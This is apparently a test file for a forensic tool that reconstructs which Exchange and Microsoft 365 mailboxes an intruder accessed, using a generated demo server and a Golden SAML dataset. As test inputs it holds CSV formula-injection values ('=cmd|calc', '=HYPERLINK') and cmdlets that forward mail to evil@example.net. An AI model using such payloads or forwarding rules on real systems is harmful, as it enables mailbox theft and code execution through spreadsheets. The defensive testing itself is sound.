import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { parse as parseCsv } from 'csv-parse/sync';
import type { GroundTruth } from '../../src/demo/exchange-server.js';
import { cmdletsInText, parseParameters } from '../../src/mail-access/cmdlets.js';
import { requestMailbox } from '../../src/mail-access/access.js';
import type { MailboxScope } from '../../src/mail-access/scope.js';
import { DATA, SPOOR } from '../helpers/paths.js';

const tmp = mkdtempSync(join(tmpdir(), 'spoor-mail-'));
after(() => rmSync(tmp, { recursive: true, force: true }));
const demo = join(tmp, 'demo');

function spoor(...args: string[]) {
  const r = spawnSync(process.execPath, [SPOOR, ...args], { encoding: 'utf8', maxBuffer: 1 << 30 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}
type Result = { mailboxes: MailboxScope[]; downloads: { path: string; ip: string }[]; grants: { what: string; app: string; permissions: string }[]; unnamed_requests: unknown[] };
const mailAccess = (...args: string[]): Result => {
  const r = spoor('mail-access', ...args, '--format', 'jsonl');
  assert.equal(r.code, 0, r.stderr);
  return JSON.parse(r.stdout) as Result;
};

before(() => {
  const g = spoor('demo', 'generate', demo, '--size', '6MB', '--seed', '11');
  assert.equal(g.code, 0, g.stderr);
});

test('on the demo server: exactly the mailboxes the ground truth names, with its first and last times, though their owners read them too', () => {
  const truth = JSON.parse(readFileSync(join(demo, 'ground-truth.json'), 'utf8')) as GroundTruth;
  assert.equal(truth.mailAccess.length, 3);
  const got = mailAccess(demo);
  const byMailbox = new Map(got.mailboxes.map((m) => [m.mailbox, m]));
  assert.deepEqual([...byMailbox.keys()].sort(), truth.mailAccess.map((m) => m.mailbox).sort());
  for (const t of truth.mailAccess) {
    const m = byMailbox.get(t.mailbox)!;
    assert.equal(Date.parse(m.first), Date.parse(t.first), `${t.mailbox} first`);
    assert.equal(Date.parse(m.last), Date.parse(t.last), `${t.mailbox} last`);
    assert.equal(m.confidence, 'high', t.mailbox);
  }
  const [ceo, counsel] = [byMailbox.get(truth.mailAccess[0]!.mailbox)!, byMailbox.get(truth.mailAccess[2]!.mailbox)!];
  assert.deepEqual(ceo.protocols, ['EWS']);
  assert.deepEqual(ceo.ips, ['5.254.43.18']);
  assert.deepEqual(counsel.kinds, ['export']);
  assert.match(counsel.exports[0]!, /aspnet_client\\[^\\]+\.pst$/);
  assert.equal(counsel.downloads.length, 1, 'the export fetched over the web is tied to it');
  // The non-trivial part: the victims' own mail clients reached the same mailboxes over the same days.
  const proxyLines = readdirSync(join(demo, 'Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy'), { recursive: true, withFileTypes: true })
    .filter((d) => d.isFile()).flatMap((d) => readFileSync(join(d.parentPath, d.name), 'utf8').split('\n'));
  for (const t of truth.mailAccess.slice(0, 2)) {
    const own = proxyLines.filter((l) => l.includes(`Smtp~${t.mailbox}`) && !l.includes('5.254.43.18'));
    assert.ok(own.length > 0, `${t.mailbox}: its owner's own requests are in the logs`);
  }
  // The grant that made EWS impersonation possible.
  assert.ok(got.grants.some((g) => /ApplicationImpersonation/.test(g.permissions)));
});

test('without the intruder\'s addresses (no detections name them) the EWS reads are not listed; --actor-ip brings them back', () => {
  // Critical rules only: ProxyLogon's forged requests name 104.140.114.110, not the shell's address the mail was read from.
  const none = mailAccess(demo, '--level', 'critical');
  // Only changes that open a mailbox stay listed, at medium (the export into aspnet_client stays high).
  assert.deepEqual(none.mailboxes.map((m) => m.mailbox), ['user113@corp.example']);
  const given = mailAccess(demo, '--level', 'critical', '--actor-ip', '5.254.43.18');
  assert.deepEqual(given.mailboxes.map((m) => m.mailbox).sort(), ['user007@corp.example', 'user042@corp.example', 'user113@corp.example']);
  assert.ok(given.mailboxes[0]!.reasons.some((r) => /--actor-ip/.test(r)));
  const bad = spoor('mail-access', demo, '--actor-ip', '5.254.43');
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /--actor-ip 5\.254\.43: not an IP address/);
});

test('the CSV for notification: one row per mailbox, formula-like values made text', () => {
  const csvFile = join(tmp, 'mailboxes.csv');
  const r = spoor('mail-access', demo, '--mail-csv', csvFile, '--actor-user', '=cmd|calc');
  assert.equal(r.code, 0, r.stderr);
  const rows = parseCsv(readFileSync(csvFile, 'utf8'), { columns: true }) as Record<string, string>[];
  assert.deepEqual(rows.map((x) => x.mailbox).sort(), ['user007@corp.example', 'user042@corp.example', 'user113@corp.example']);
  assert.match(rows[0]!.first_access_utc!, /^2021-03-\d\dT/);
  assert.match(r.stdout, /^mailbox +first \(UTC\)/);
  // A hostile value in the CSV cannot become a formula in a spreadsheet.
  const hostile = join(tmp, 'hostile.csv');
  writeFileSync(join(tmp, 'ual.json'), JSON.stringify({ CreationTime: '2021-08-02T13:32:07', Operation: 'MailItemsAccessed', Workload: 'Exchange', RecordType: 50, MailboxOwnerUPN: '=HYPERLINK("http://x")', ClientIPAddress: '203.0.113.9', UserId: 'a@b' }) + '\n');
  const h = spoor('mail-access', join(tmp, 'ual.json'), '--actor-ip', '203.0.113.9', '--mail-csv', hostile);
  assert.equal(h.code, 0, h.stderr);
  assert.match(readFileSync(hostile, 'utf8'), /\n"'=hyperlink/);
});

test('on the Golden SAML run: the mailbox read through Microsoft Graph, the application and address behind it, and the rules that tie them', () => {
  const golden = join(DATA, 'cloud/otrf-golden-saml-mail-access');
  const got = mailAccess(golden, '--rules', join(DATA, 'sigma/rules/cloud'));
  assert.equal(got.mailboxes.length, 1);
  const m = got.mailboxes[0]!;
  assert.equal(m.mailbox, 'pgustavo@simulandlabs.com');
  assert.equal(m.confidence, 'high');
  assert.deepEqual(m.protocols, ['Microsoft Graph']);
  assert.deepEqual(m.apps, ['SimuLandApp (5a95e683-08ad-424e-a441-1d1aec52c02c)']);
  assert.deepEqual(m.ips, ['1.2.3.4']);
  assert.deepEqual(m.folders, ['\\Inbox']);
  assert.equal(m.items, 7);
  assert.equal(m.first, '2021-08-02T13:32:07.000Z');
  assert.equal(m.records, 1, 'the same record from OfficeActivity and CloudAppEvents counts once');
  assert.ok(m.reasons.some((r) => /^by application SimuLandApp, which the intrusion changed: Credentials Added/.test(r)), m.reasons.join('\n'));
  assert.ok(got.grants.some((g) => g.what === 'Add delegated permission grant' && /Mail\.ReadWrite/.test(g.permissions)));
});

test('cmdlet parameters and request mailboxes as Exchange writes them', () => {
  assert.deepEqual([...parseParameters('{-Mailbox "a@b.example" -Force -ContentFilter "(Subject -eq \'x\')" -FilePath \\\\h\\c$\\x.pst}')], [['mailbox', 'a@b.example'], ['force', ''], ['contentfilter', "(Subject -eq 'x')"], ['filepath', '\\\\h\\c$\\x.pst']]);
  assert.deepEqual(cmdletsInText('Set-Mailbox -Identity user042 -ProhibitSendQuota 9GB'), [], 'a quota change opens no mailbox');
  assert.equal(cmdletsInText('New-InboxRule -Mailbox ceo -Name x -ForwardTo evil@example.net; Get-Mailbox')[0]!.detail, 'rule x: ForwardTo evil@example.net');
  assert.equal(cmdletsInText('Set-Mailbox -Identity ceo -ForwardingSmtpAddress smtp:evil@example.net')[0]!.kind, 'forwarding');
  assert.equal(requestMailbox('Smtp~CEO@corp.example', '/EWS/Exchange.asmx', ''), 'ceo@corp.example');
  assert.equal(requestMailbox('ServerInfo~exch01/ews/exchange.asmx?#', '/ecp/y.js', ''), '', 'a forged request names a server, not a mailbox');
  assert.equal(requestMailbox(undefined, '/Microsoft-Server-ActiveSync/default.eas', 'Cmd=Sync&User=user001&DeviceId=X'), 'user001');
});
